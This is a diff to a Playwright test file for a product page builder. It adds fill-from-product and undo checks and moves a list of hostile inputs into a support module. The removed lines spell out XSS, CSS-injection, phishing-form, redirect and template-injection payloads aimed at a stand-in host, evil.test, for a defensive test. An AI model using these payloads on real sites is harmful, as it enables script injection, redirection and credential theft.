@@ -1,6 +1,7 @@
 import type { Browser, FrameLocator, Page } from '@playwright/test'
 import sharp from 'sharp'
 import { newVisitor } from '../support/browser'
+import { HOSTILE } from '../support/hostile-texts'
 import { axeOf, lookAt } from '../support/page-accessibility'
 import { DEMO_PASSWORD } from '../support/panel'
 import { expect, type LoggedIn, type SharedProduct, test } from '../support/test'
@@ -71,6 +72,13 @@ test('a page begins with its product, and each change shows in the real document
     .toBuffer()
   await (await chosen).setFiles({ name: 'pan.png', mimeType: 'image/png', buffer })
   await expect(preview(page).getByRole('img', { name: 'Soup for six' })).toHaveAttribute('src', /\/media\/|\/cms-api\//)
+  await page.getByRole('tab', { name: 'Settings' }).click()
+  await page.getByRole('button', { name: 'Fill page from product' }).click()
+  await expect(preview(page).getByRole('heading', { level: 1 })).toHaveText(/Saucepan/)
+  await page.getByRole('button', { name: 'Undo' }).click()
+  await expect(preview(page).getByRole('heading', { level: 1 })).toHaveText('Soup for six')
+  await page.getByRole('tab', { name: 'Sections' }).click()
+  await page.getByRole('button', { name: /^Hero/ }).click()
   await page.getByRole('textbox', { name: 'Background', exact: true }).fill('#123456')
   await expect(preview(page).locator('.hero')).toHaveCSS('background-color', 'rgb(18, 52, 86)')
   await page.getByRole('button', { name: 'Phone', exact: true }).click()
@@ -216,19 +224,6 @@ test('the list shows what pages bring, and duplicates, unpublishes, deletes and 
   await context.close()
 })
 
-/** What a brand, or whoever took over its account, might enter anywhere. */
-const HOSTILE = [
-  '<img src=x onerror="top.stolen = 1; parent.stolen = 1">',
-  '"><script>top.location = "https://evil.test"; parent.stolen = 1</script>',
-  '</script></style></textarea></title></iframe><svg onload="parent.stolen = 1">',
-  '<style>* { display: none !important } @import "https://evil.test/x.css";</style>',
-  '<form action="https://evil.test"><input name="password">',
-  'javascript:parent.stolen = 1',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
-  '<a href="https://evil.test" target="_top" autofocus onfocus="parent.stolen = 1" tabindex="1">Free</a>',
-  '{{constructor.constructor("parent.stolen = 1")()}}',
-]
-
 test('hostile text and code do no harm in the builder, the preview and the list', async () => {
   const { page, context, id } = await newPage()
   const hostile = HOSTILE.join('\n')
@@ -251,7 +246,7 @@ test('hostile text and code do no harm in the builder, the preview and the list'
           subtitle: HOSTILE[1],
           description: hostile,
           image_url: HOSTILE[5],
-          background_color: 'red;background:url(https://evil.test)',
+          background_color: HOSTILE[9],
           cta_text: { buttonText: HOSTILE[2], textColor: HOSTILE[3], backgroundColor: HOSTILE[0] },
         }),
         is_visible: true,
